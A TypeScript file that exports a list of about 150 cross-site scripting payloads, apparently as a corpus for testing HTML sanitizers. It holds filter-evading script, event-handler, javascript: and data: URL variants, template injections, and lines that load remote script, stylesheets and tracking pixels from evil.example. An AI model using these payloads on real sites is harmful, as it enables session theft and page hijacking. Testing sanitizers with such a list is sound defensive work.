/** What a payload does when it runs: it leaves a mark the page is asked for, and calls home. */
const MARK = "window.__ran=1";
const HOME = "https://evil.example";

const SCRIPTS = [
  `<script>${MARK}</script>`,
  `<ScRiPt>${MARK}</sCrIpT>`,
  `<script src="${HOME}/x.js"></script>`,
  `<script/x>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><script xlink:href="data:,${MARK}"></script></svg>`,
  `<math><mtext><script>${MARK}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${MARK}</script>">`,
  `<template><script>${MARK}</script></template>`,
  `\u2028<script>${MARK}</script>\u2029`,
];

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "details open",
  "iframe",
  "marquee",
  "object data=x",
  "style",
  "select autofocus",
  "math",
];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart"];
const HANDLERS = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${MARK}>`));

const ADDRESSES = [
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  `java\tscript:${MARK}`,
  `java\nscript:${MARK}`,
  `\u0001javascript:${MARK}`,
  `javascript&colon;${MARK}`,
  `&#106;avascript:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `vbscript:${MARK}`,
  `//evil.example/x`,
  `${HOME}/x`,
];
const LINKS = ADDRESSES.flatMap((address) => [
  `<a href="${address}">按这里</a>`,
  `<iframe src="${address}"></iframe>`,
  `<form action="${address}"><button>送出</button></form>`,
]);

const STYLES = [
  `<style>@import url(${HOME}/x.css)</style>`,
  `<p style="background:url(${HOME}/x.png)">字</p>`,
  `<p style="width:expression(${MARK})">字</p>`,
  `<link rel="stylesheet" href="${HOME}/x.css">`,
  `<link rel="prefetch" href="${HOME}/x">`,
  `<base href="${HOME}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOME}">`,
  `<img src="${HOME}/pixel.png">`,
  `<video poster="${HOME}/x.png"><source src="${HOME}/x.mp4"></video>`,
  `<object data="${HOME}/x.swf"></object>`,
  `<embed src="${HOME}/x.swf">`,
  `<portal src="${HOME}"></portal>`,
];

const ELSEWHERE = [
  `"><img src=x onerror=${MARK}>`,
  `'><img src=x onerror=${MARK}>`,
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
  `#{${MARK}}`,
  `<%= ${MARK} %>`,
  `[按这里](javascript:${MARK})`,
  `![图](${HOME}/pixel.png)`,
  `<!--><img src=x onerror=${MARK}>-->`,
  `<![CDATA[<img src=x onerror=${MARK}>]]>`,
  `<?xml version="1.0"?><x onload="${MARK}"/>`,
  `<p data-row-id="x" onclick="${MARK}" class="script-row" contenteditable="false">字</p>`,
  `<table><tr><td onmouseover="${MARK}"><img src=x onerror=${MARK}></td></tr></table>`,
  `=HYPERLINK("${HOME}","按这里")`,
  `\u202e<img src=x onerror=${MARK}>`,
];

/** A hundred and fifty ways to make a page do what nobody asked it to. */
export const XSS_PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...LINKS,
  ...STYLES,
  ...ELSEWHERE,
  ...HANDLERS,
  ...ADDRESSES,
].slice(0, 150);
